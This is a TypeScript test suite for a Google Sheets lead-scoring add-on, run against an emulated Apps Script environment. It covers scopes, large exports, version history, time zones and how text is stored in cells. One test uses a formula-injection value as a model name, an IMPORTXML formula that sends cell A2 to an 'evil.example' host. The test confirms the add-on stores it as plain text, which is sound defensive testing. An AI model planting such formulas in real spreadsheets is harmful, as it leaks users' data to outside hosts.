// The built add-on against the strict emulation with the SHIPPED manifest (dist/appsscript.json): no
// userinfo.email scope, getRange throwing outside the sheet, strings converted like typed input unless the
// cell is plain text, dialogs answered only by the (test) user. Each test is a failure Google's rules would
// cause in a real spreadsheet (issue 8).
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { formatIsoDay, parseIsoDay, utcDayOfDate } from '../../src/core/cells';
import type { Model } from '../../src/core/model';
import { sampleLeads } from '../../src/core/sampleLeads';
import { starterModel } from '../../src/core/starterModel';
import { createEmulator, type Emulator } from '../../src/emulation';
import type { SaveResult, SidebarState } from '../../src/shared/sidebarApi';
import { addonWithStarter, loadBuiltAddon, sheetValues } from '../support/addon';
import { DIST_DIR } from '../support/paths';

const MODEL_SHEET = 'Lead Scoring Model';
const HISTORY_SHEET = 'Lead Scoring History';
const SHIPPED_MANIFEST = JSON.parse(readFileSync(join(DIST_DIR, 'appsscript.json'), 'utf8')) as {
  oauthScopes: string[];
};

type Sheet = NonNullable<ReturnType<Emulator['spreadsheet']['getSheetByName']>>;

function sheetOf(emulator: Emulator, name: string): Sheet {
  const sheet = emulator.spreadsheet.getSheetByName(name);
  if (!sheet) throw new Error(`no sheet "${name}"`);
  return sheet;
}

function state(emulator: Emulator): SidebarState {
  return emulator.run('getSidebarState', [], 'FULL') as SidebarState;
}

function save(emulator: Emulator, model: Model): SaveResult {
  return emulator.run('saveModel', [model, state(emulator).revision], 'FULL') as SaveResult;
}

/** A sheet sized exactly to its rows and 26 columns, as Sheets sizes a sheet to a pasted CSV. */
function addSizedSheet(emulator: Emulator, name: string, rows: (string | number)[][]): Sheet {
  const sheet = emulator.spreadsheet.insertSheet(name);
  const max = sheet.getMaxRows();
  if (rows.length > max) sheet.insertRowsAfter(max, rows.length - max);
  else if (rows.length < max) sheet.deleteRows(rows.length + 1, max - rows.length);
  const width = rows[0]?.length ?? 0;
  if (width > sheet.getMaxColumns())
    sheet.insertColumnsAfter(sheet.getMaxColumns(), width - sheet.getMaxColumns());
  sheet.getRange(1, 1, rows.length, width).setValues(rows);
  emulator.spreadsheet.setActiveSheet(sheet);
  return sheet;
}

/** A CRM export: the sample's 13 columns and 13 more, 26 in all (A:Z). */
function export26(count: number): (string | number)[][] {
  const rows = sampleLeads({ count, seed: 11, today: utcDayOfDate(new Date()) });
  return rows.map((row, r) => [
    ...row,
    ...Array.from({ length: 13 }, (_v, k) => (r === 0 ? `Extra ${k + 1}` : `x${(r * 7 + k) % 13}`)),
  ]);
}

function expectNoAlert(emulator: Emulator): void {
  expect(emulator.ui.alerts.map((a) => a.prompt)).toEqual([]);
}

describe('the shipped manifest', () => {
  it('asks for no userinfo.email scope, and the emulation grants exactly its scopes', () => {
    expect(SHIPPED_MANIFEST.oauthScopes).toEqual(
      JSON.parse(readFileSync(join(DIST_DIR, '..', 'appsscript.json'), 'utf8')).oauthScopes,
    );
    expect(SHIPPED_MANIFEST.oauthScopes.join(' ')).not.toContain('userinfo.email');
  });
});

describe('every menu command and sidebar call on the sample data', () => {
  it('succeeds, and the history says who saved as "unknown" (no userinfo.email scope)', () => {
    const emulator = addonWithStarter();
    expectNoAlert(emulator);
    const history = sheetValues(emulator, HISTORY_SHEET);
    expect(history[1]?.slice(0, 5)).toEqual([
      1,
      expect.any(String),
      'unknown',
      expect.stringMatching(/^Starter model inserted: model "B2B starter" with \d+ rules$/),
      '',
    ]);
    expect(sheetValues(emulator, 'Sample leads')[0]?.slice(13)).toEqual(['Score', 'Band', 'Reasons']);

    emulator.run('showModelEditor', [], 'FULL');
    expect(emulator.ui.sidebars).toHaveLength(1);
    const model = state(emulator).model as Model;
    const saved = save(emulator, { ...model, name: 'Renamed' });
    expect(saved).toMatchObject({ ok: true, version: { version: 2, savedBy: 'unknown' } });
    const restored = emulator.run('restoreVersion', [1, state(emulator).revision], 'FULL') as SaveResult;
    expect(restored).toMatchObject({ ok: true, version: { version: 3 } });
    expect(state(emulator).model?.name).toBe('B2B starter');
    const calibration = emulator.run('buildCalibrationSheet', [{}], 'FULL') as { leads: number };
    expect(calibration.leads).toBeGreaterThan(150);

    emulator.spreadsheet.setActiveSheet(sheetOf(emulator, 'Sample leads'));
    emulator.run('scoreThisSheet', [], 'FULL');
    emulator.run('buildCalibration', [], 'FULL');
    emulator.run('refreshLeadFormulas', [], 'FULL');
    emulator.ui.queueAlertResponse('OK'); // "Replace the model?"
    emulator.run('insertSimpleStarterModel', [], 'FULL');
    emulator.recalculate();
    // The only dialog: the confirmation; no command failed into an alert.
    expect(emulator.ui.alerts.map((a) => a.title)).toEqual(['Replace the model?']);
    expect(sheetOf(emulator, 'Sample leads').getLastColumn()).toBe(16);
  });

  it('records the email when the manifest grants userinfo.email', () => {
    const emulator = loadBuiltAddon({
      manifest: {
        oauthScopes: [...SHIPPED_MANIFEST.oauthScopes, 'https://www.googleapis.com/auth/userinfo.email'],
      },
      activeUser: 'ana@example.com',
    });
    emulator.run('insertSimpleStarterModel', [], 'FULL');
    expect(sheetValues(emulator, HISTORY_SHEET)[1]?.[2]).toBe('ana@example.com');
  });
});

describe('a 26-column, 12,000-row export in a sheet sized to it', () => {
  it('Score this sheet writes its four columns after Z, twice in the same place', () => {
    const emulator = addonWithStarter();
    const rows = export26(12_000);
    const sheet = addSizedSheet(emulator, 'Export', rows);
    expect([sheet.getMaxRows(), sheet.getMaxColumns()]).toEqual([12_001, 26]);

    emulator.run('scoreThisSheet', [], 'FULL');
    expectNoAlert(emulator);
    expect(sheet.getRange('AA1:AD1').getValues()[0]).toEqual(['Score', 'Band', 'Grade', 'Reasons']);
    const scores = sheet.getRange(2, 27, 12_000, 1).getValues().flat();
    expect(scores.every((s) => typeof s === 'number')).toBe(true);
    emulator.run('scoreThisSheet', [], 'FULL'); // again: the same columns, refreshed
    expect(sheet.getMaxColumns()).toBe(30);
    expect(sheet.getLastColumn()).toBe(30);
    expect(sheet.getRange(2, 27, 12_000, 1).getValues().flat()).toEqual(scores);
  }, 120_000);

  it('Build calibration sheet (12,000 leads) and every sidebar call succeed', () => {
    const emulator = addonWithStarter();
    const sheet = addSizedSheet(emulator, 'Export', export26(12_000));
    const sidebar = state(emulator);
    expect(sidebar.data?.sheetName).toBe('Export');
    expect(sidebar.data?.totalRows).toBe(12_000);
    const result = emulator.run('buildCalibrationSheet', [{ compareWithVersion: 'suggested' }], 'FULL') as {
      leads: number;
    };
    expect(result.leads).toBeGreaterThan(11_000);
    const calibration = sheetOf(emulator, 'Calibration');
    expect(calibration.getLastRow()).toBeGreaterThan(1000); // past a new sheet's 1,000 rows
    emulator.spreadsheet.setActiveSheet(sheet);
    emulator.run('buildCalibration', [], 'FULL');
    expect(save(emulator, { ...(sidebar.model as Model), name: 'Export model' })).toMatchObject({ ok: true });
    emulator.run('refreshLeadFormulas', [], 'FULL');
    expectNoAlert(emulator);
  }, 120_000);

  it('a sheet full to column Z gets its four columns inserted after Z', () => {
    const emulator = addonWithStarter();
    const sheet = addSizedSheet(emulator, 'Full to Z', export26(200));
    expect(sheet.getMaxColumns()).toBe(26);
    emulator.run('scoreThisSheet', [], 'FULL');
    expectNoAlert(emulator);
    expect(sheet.getMaxColumns()).toBe(30);
    expect(sheet.getRange('AA1:AD1').getValues()[0]).toEqual(['Score', 'Band', 'Grade', 'Reasons']);
    expect(sheet.getRange('AB2').getValue()).toMatch(/^(Cold|Warm|Hot|Very hot)$/);
  });
});

describe('the history sheet', () => {
  it('takes a save after 1,200 versions (past row 1,000 of the sheet), and restores version 1', () => {
    const emulator = addonWithStarter();
    const history = sheetOf(emulator, HISTORY_SHEET);
    const json = String(history.getRange(2, 6).getValue());
    const rows = Array.from({ length: 1_199 }, (_v, i) => [
      i + 2,
      '2026-01-01T00:00:00.000Z',
      'unknown',
      'x',
      '',
      json,
    ]);
    history.insertRowsAfter(history.getMaxRows(), 1_201 - history.getMaxRows()); // full: no row to spare
    history.getRange(3, 1, rows.length, 6).setValues(rows);
    const first = starterModel();
    const saved = save(emulator, { ...first, name: 'Version 1201' });
    expect(saved).toMatchObject({ ok: true, version: { version: 1201 } });
    expect(history.getLastRow()).toBe(1202);
    expect(state(emulator).versions).toHaveLength(1201);
    const restored = emulator.run('restoreVersion', [1, state(emulator).revision], 'FULL') as SaveResult;
    expect(restored).toMatchObject({ ok: true, version: { version: 1202 } });
    expect(state(emulator).model?.name).toBe('B2B starter');
  });

  it('sorted newest-first, the next save takes a new number and a restore returns that version', () => {
    const emulator = addonWithStarter();
    const model = starterModel();
    save(emulator, { ...model, name: 'Two' });
    save(emulator, { ...model, name: 'Three' });
    const history = sheetOf(emulator, HISTORY_SHEET);
    const body = history.getRange(2, 1, 3, 6).getValues();
    history.getRange(2, 1, 3, 6).setValues([...body].reverse()); // what Data › Sort range Z→A does
    expect(history.getRange('A2:A4').getValues().flat()).toEqual([3, 2, 1]);
    expect(save(emulator, { ...model, name: 'Four' })).toMatchObject({ ok: true, version: { version: 4 } });
    expect(state(emulator).versions.map((v) => v.version)).toEqual([4, 3, 2, 1]);
    emulator.run('restoreVersion', [2, state(emulator).revision], 'FULL');
    expect(state(emulator).model?.name).toBe('Two');
  });

  it('keeps an edit typed into the model sheet as a version before a save or a restore replaces it', () => {
    const emulator = addonWithStarter();
    const modelSheet = sheetOf(emulator, MODEL_SHEET);
    const row = sheetValues(emulator, MODEL_SHEET).findIndex((r) => r[0] === 'Requested a demo') + 1;
    modelSheet.getRange(row, 6).setValue(40);
    const edited = state(emulator).model as Model;
    expect(edited.rules.find((r) => r.name === 'Requested a demo')?.points).toBe(40);
    emulator.run('restoreVersion', [1, state(emulator).revision], 'FULL');
    const versions = state(emulator).versions;
    expect(versions.map((v) => [v.version, v.summary])).toEqual([
      [3, 'Restored version 1: rule "Requested a demo": points 40 → 15'],
      [2, 'Edited in the model sheet'],
      [1, expect.stringMatching(/^Starter model inserted: model "B2B starter" with \d+ rules$/)],
    ]);
    emulator.run('restoreVersion', [2, state(emulator).revision], 'FULL');
    expect(state(emulator).model?.rules.find((r) => r.name === 'Requested a demo')?.points).toBe(40);
    // A save with no edit in between adds exactly one version.
    expect(state(emulator).versions).toHaveLength(4);
  });
});

describe('versions told apart', () => {
  it('says what each save changed, keeps the note typed with it, and refuses a note too long, saving nothing', () => {
    const emulator = addonWithStarter();
    const model = starterModel();
    const demo = model.rules.find((r) => r.name === 'Requested a demo');
    if (!demo) throw new Error('starter rule missing');
    const changed: Model = {
      ...model,
      rules: model.rules.map((r) => (r === demo ? { ...r, points: 25 } : r)),
    };
    const note = '=Q3 review with Sam ';
    const saved = emulator.run('saveModel', [changed, state(emulator).revision, note], 'FULL') as SaveResult;
    expect(saved).toMatchObject({ ok: true, version: { version: 2, note } });
    // The menu's (simple) starter, inserted again, says what it put back: not a second bare "Starter model
    // inserted".
    emulator.ui.queueAlertResponse('OK');
    emulator.run('insertSimpleStarterModel', [], 'FULL');
    const versions = state(emulator).versions;
    expect(versions.map((v) => [v.version, v.summary, v.note])).toEqual([
      [3, 'Starter model inserted: rule "Requested a demo": points 25 → 15', ''],
      [2, 'rule "Requested a demo": points 15 → 25', note],
      [1, expect.stringMatching(/^Starter model inserted: model "B2B starter" with \d+ rules$/), ''],
    ]);
    const history = sheetOf(emulator, HISTORY_SHEET);
    expect(history.getRange('E1:E3').getValues().flat()).toEqual(['Note', '', note]);
    expect(history.getRange('E3').getFormula()).toBe('');

    const before = sheetValues(emulator, MODEL_SHEET);
    const tooLong = emulator.run(
      'saveModel',
      [changed, state(emulator).revision, 'x'.repeat(201)],
      'FULL',
    ) as SaveResult;
    expect(tooLong).toMatchObject({ ok: false, reason: 'invalid' });
    expect(tooLong.ok ? '' : tooLong.message).toMatch(/201 characters, more than the 200/);
    expect(sheetValues(emulator, MODEL_SHEET)).toEqual(before);
    expect(state(emulator).versions).toHaveLength(3);
  });

  it('reads a history sheet from before notes, and gives it a Note column at the next save', () => {
    const emulator = addonWithStarter();
    const history = sheetOf(emulator, HISTORY_SHEET);
    // The layout before notes: Version, Saved at, Saved by, Summary, Model (JSON).
    history.deleteColumn(5);
    expect(history.getRange('A1:E1').getValues()[0]).toEqual([
      'Version',
      'Saved at',
      'Saved by',
      'Summary',
      'Model (JSON)',
    ]);
    expect(state(emulator).versions.map((v) => [v.version, v.note])).toEqual([[1, '']]);
    const saved = emulator.run(
      'saveModel',
      [{ ...starterModel(), name: 'Two' }, state(emulator).revision, 'after the upgrade'],
      'FULL',
    ) as SaveResult;
    expect(saved).toMatchObject({ ok: true });
    expect(history.getRange('A1:F1').getValues()[0]).toEqual([
      'Version',
      'Saved at',
      'Saved by',
      'Summary',
      'Note',
      'Model (JSON)',
    ]);
    expect(state(emulator).versions.map((v) => [v.version, v.note])).toEqual([
      [2, 'after the upgrade'],
      [1, ''],
    ]);
    emulator.run('restoreVersion', [1, state(emulator).revision], 'FULL');
    expect(state(emulator).model).toEqual(starterModel());
  });
});

describe('text stays text, rule values come back as written', () => {
  it('1-10, 007, 3/4 and a formula-looking name round-trip through the model sheet and the history', () => {
    const emulator = addonWithStarter();
    const model = starterModel();
    const candidate: Model = {
      ...model,
      name: '=IMPORTXML("http://evil.example/?q="&A2,"//a")',
      rules: [
        ...model.rules,
        {
          name: '+Range 1-10',
          group: model.rules[0]?.group ?? '',
          column: 'Urgency',
          operator: 'equals',
          value: '1-10',
          points: 1,
        },
        {
          name: "'Tis 007",
          group: model.rules[0]?.group ?? '',
          column: 'Urgency',
          operator: 'equals',
          value: '007',
          points: 2,
        },
        {
          name: '-3/4',
          group: model.rules[0]?.group ?? '',
          column: 'Urgency',
          operator: 'one of',
          value: ['3/4', '50%', 'TRUE', '2026-03-04'],
          points: 3,
        },
      ],
      bands: model.bands.map((b, i) => (i === 0 ? { ...b, name: '@Cold' } : b)),
    };
    const saved = save(emulator, candidate);
    expect(saved).toMatchObject({ ok: true });
    const back = state(emulator).model as Model;
    expect(back.name).toBe(candidate.name);
    expect(back.rules.slice(-3).map((r) => [r.name, r.value])).toEqual([
      ['+Range 1-10', '1-10'],
      ["'Tis 007", '007'],
      ['-3/4', ['3/4', '50%', 'TRUE', '2026-03-04']],
    ]);
    expect(back.bands[0]?.name).toBe('@Cold');
    const formulas = sheetOf(emulator, MODEL_SHEET).getDataRange().getFormulas().flat();
    expect(formulas.every((f) => f === '')).toBe(true);
    const history = sheetValues(emulator, HISTORY_SHEET);
    expect(JSON.parse(String(history.at(-1)?.[5]))).toEqual(back);
    // Score this sheet writes the band name as text too.
    emulator.spreadsheet.setActiveSheet(sheetOf(emulator, 'Sample leads'));
    addSizedSheet(emulator, 'Leads', export26(50));
    emulator.run('scoreThisSheet', [], 'FULL');
    const leads = sheetOf(emulator, 'Leads');
    expect(
      leads
        .getDataRange()
        .getFormulas()
        .flat()
        .every((f) => f === ''),
    ).toBe(true);
    expect(leads.getRange(2, 28, 50, 1).getValues().flat()).toContain('@Cold');
  });

  it('a rule value typed into the model sheet as 1-10, 007 or 3/4 stays that text', () => {
    const emulator = addonWithStarter();
    const modelSheet = sheetOf(emulator, MODEL_SHEET);
    const values = sheetValues(emulator, MODEL_SHEET);
    const row = values.findIndex((r) => r[3] === 'equals' || r[3] === 'one of' || r[3] === 'contains') + 1;
    expect(row).toBeGreaterThan(0);
    for (const typed of ['1-10', '007', '3/4']) {
      modelSheet.getRange(row, 5).setValue(typed);
      const rule = state(emulator).model?.rules.find((r) => r.name === values[row - 1]?.[0]);
      expect(rule?.value === typed || JSON.stringify(rule?.value) === JSON.stringify([typed])).toBe(true);
    }
  });
});

describe('a note typed to the right of the model tables', () => {
  it('on an otherwise empty row does not break the model for any reader', () => {
    const emulator = addonWithStarter();
    const modelSheet = sheetOf(emulator, MODEL_SHEET);
    const values = sheetValues(emulator, MODEL_SHEET);
    const afterRules = values.findIndex((r, i) => i > 10 && r[0] === 'Bands') - 1;
    const inBands = values.findIndex((r) => r[0] === 'Grades') - 1;
    modelSheet.getRange(afterRules + 1, 10).setValue('Ask Sam about the demo rule');
    modelSheet.getRange(inBands + 1, 5).setValue('note: bands agreed with sales');
    const sidebar = state(emulator);
    expect(sidebar.modelProblems).toEqual([]);
    expect(sidebar.model?.rules).toHaveLength(starterModel().rules.length);
    emulator.spreadsheet.setActiveSheet(sheetOf(emulator, 'Sample leads'));
    emulator.run('scoreThisSheet', [], 'FULL');
    expectNoAlert(emulator);
    const sheet = sheetOf(emulator, 'Sample leads');
    sheet.getRange('R1').setFormula('=LEADSCORE(A1:M201)');
    emulator.recalculate();
    expect(sheet.getRange('R2:R201').getValues().flat()).toEqual(
      sheet.getRange('N2:N201').getValues().flat(),
    );
  });
});

describe('scores that depend on today', () => {
  it('Recalculate LEAD formulas re-runs every LEAD formula, LEADEXPLAIN included, despite the cache', () => {
    const emulator = addonWithStarter();
    const sheet = sheetOf(emulator, 'Sample leads');
    sheet.getRange('R1').setFormula('=LEADEXPLAIN(A1:M2, LeadModel)');
    sheet.getRange('V1').setFormula('=LEADSCORE(A1:M201)');
    emulator.recalculate();
    expect(emulator.recalculate()).toEqual([]); // nothing changed: nothing runs
    emulator.run('refreshLeadFormulas', [], 'FULL');
    const evaluated = emulator.recalculate();
    for (const cell of ['N1', 'O1', 'P1', 'R1', 'V1']) expect(evaluated).toContain(`'Sample leads'!${cell}`);
    expect(sheet.getRange('V1').getFormula()).toBe('=LEADSCORE(A1:M201, LeadModel)');
    expect(emulator.ui.toasts.at(-1)?.message).toBe('Recalculated 5 LEAD formulas.');
  });

  it('opening the file on a new day (AuthMode.LIMITED) refreshes the scores once', () => {
    const emulator = addonWithStarter();
    const stamp = sheetOf(emulator, MODEL_SHEET).getRange('H1');
    stamp.setValue('Scores refreshed 2020-01-01 08:00:00');
    emulator.recalculate();
    emulator.run('onOpen', [{ authMode: 'LIMITED' }], 'LIMITED');
    expect(String(stamp.getValue())).toMatch(/^Scores refreshed \d{4}-\d\d-\d\d \d\d:\d\d:\d\d$/);
    expect(emulator.recalculate()).toContain("'Sample leads'!N1");
    emulator.run('onOpen', [{ authMode: 'LIMITED' }], 'LIMITED');
    expect(emulator.recalculate()).toEqual([]);
  });
});

describe('time zones: Date cells read as the calendar day Sheets shows', () => {
  // Local midnight of a day in a zone, as the instant Sheets stores for a typed date.
  const midnight = (iso: string, offsetHours: number) =>
    new Date(Date.parse(`${iso}T00:00:00Z`) - offsetHours * 3_600_000);
  const cases = [
    { zone: 'Asia/Kolkata', days: ['2026-03-07', '2026-03-08', '2026-03-09'], offset: () => 5.5 },
    // US daylight saving time starts on 2026-03-08 at 2:00: midnight that day is still UTC-8.
    {
      zone: 'America/Los_Angeles',
      days: ['2026-03-07', '2026-03-08', '2026-03-09'],
      offset: (d: string) => (d <= '2026-03-08' ? -8 : -7),
    },
  ];
  for (const { zone, days, offset } of cases) {
    it(`${zone}: LEAD formulas and the sidebar read the dates as the same days written as text`, () => {
      const emulator = addonWithStarter({ timeZone: zone });
      const model = { ...starterModel(), settings: { ...starterModel().settings, asOf: '2026-04-08' } };
      expect(save(emulator, model)).toMatchObject({ ok: true });
      const base = sampleLeads({ count: 3, seed: 3, today: parseIsoDay('2026-04-08') ?? 0 });
      const lastActivity = base[0]?.indexOf('Last activity') ?? -1;
      const withDates = base.map((row, r) =>
        r === 0
          ? row
          : row.map((cell, c) =>
              c === lastActivity ? midnight(days[r - 1] ?? '', offset(days[r - 1] ?? '')) : cell,
            ),
      );
      const asText = base.map((row, r) =>
        r === 0 ? row : row.map((cell, c) => (c === lastActivity ? (days[r - 1] ?? '') : cell)),
      );
      const dated = addSizedSheet(emulator, 'Dated', withDates as (string | number)[][]);
      expect(dated.getRange(2, lastActivity + 1).getDisplayValue()).toContain('2026');
      dated.getRange(1, 15).setFormula('=LEADSCORE(A1:M4, LeadModel)');
      dated.getRange(1, 16).setFormula('=LEADREASONS(A1:M4, LeadModel)');
      const text = addSizedSheet(emulator, 'Text', asText);
      text.getRange(1, 1, asText.length, 13).setNumberFormat('@').setValues(asText);
      text.getRange(1, 15).setFormula('=LEADSCORE(A1:M4, LeadModel)');
      text.getRange(1, 16).setFormula('=LEADREASONS(A1:M4, LeadModel)');
      emulator.recalculate();
      expect(dated.getRange('O1:P4').getValues()).toEqual(text.getRange('O1:P4').getValues());
      expect(String(dated.getRange('P2').getValue())).not.toMatch(/LEAD/);
      emulator.spreadsheet.setActiveSheet(dated);
      const preview = state(emulator).data;
      expect(preview?.rows.map((r) => r[lastActivity])).toEqual(days);
      expect(formatIsoDay(parseIsoDay(state(emulator).today) ?? 0)).toBe(state(emulator).today);
    });
  }

  it('without Intl time-zone support in the script runtime, LEAD formulas still score in Asia/Kolkata', () => {
    // Google does not document Intl time zones for Apps Script: run the bundle with an Intl that has none.
    const noZones = `(() => { const Native = Intl.DateTimeFormat;
      Intl.DateTimeFormat = function (locale, options) {
        if (options && options.timeZone && !/^(UTC|Etc\\/UTC)$/.test(options.timeZone)) throw new RangeError('no time zones');
        return new Native(locale, options);
      }; })();\n`;
    const emulator = createEmulator({ manifest: SHIPPED_MANIFEST, timeZone: 'Asia/Kolkata' });
    emulator.loadScript(noZones + readFileSync(join(DIST_DIR, 'addon.js'), 'utf8'), 'addon.js');
    emulator.run('insertSimpleStarterModel', [], 'FULL');
    emulator.recalculate();
    const sheet = sheetOf(emulator, 'Sample leads');
    const scores = sheet.getRange('N2:N201').getValues().flat();
    expect(scores.every((score) => typeof score === 'number')).toBe(true);
    sheet.getRange('R1').setFormula('=LEADEXPLAIN(A1:M2, LeadModel)');
    emulator.recalculate();
    expect(sheet.getRange('R1:T1').getValues()[0]).toEqual(['Rule', 'Points', 'Why']);
    const check = createEmulator({ manifest: SHIPPED_MANIFEST, timeZone: 'Asia/Kolkata' });
    check.loadScript(
      `${noZones}function probe() { return new Intl.DateTimeFormat('en-US', { timeZone: 'Asia/Kolkata' }).format(0); }`,
      'probe.js',
    );
    expect(() => check.run('probe', [])).toThrow(/no time zones/);
  });
});
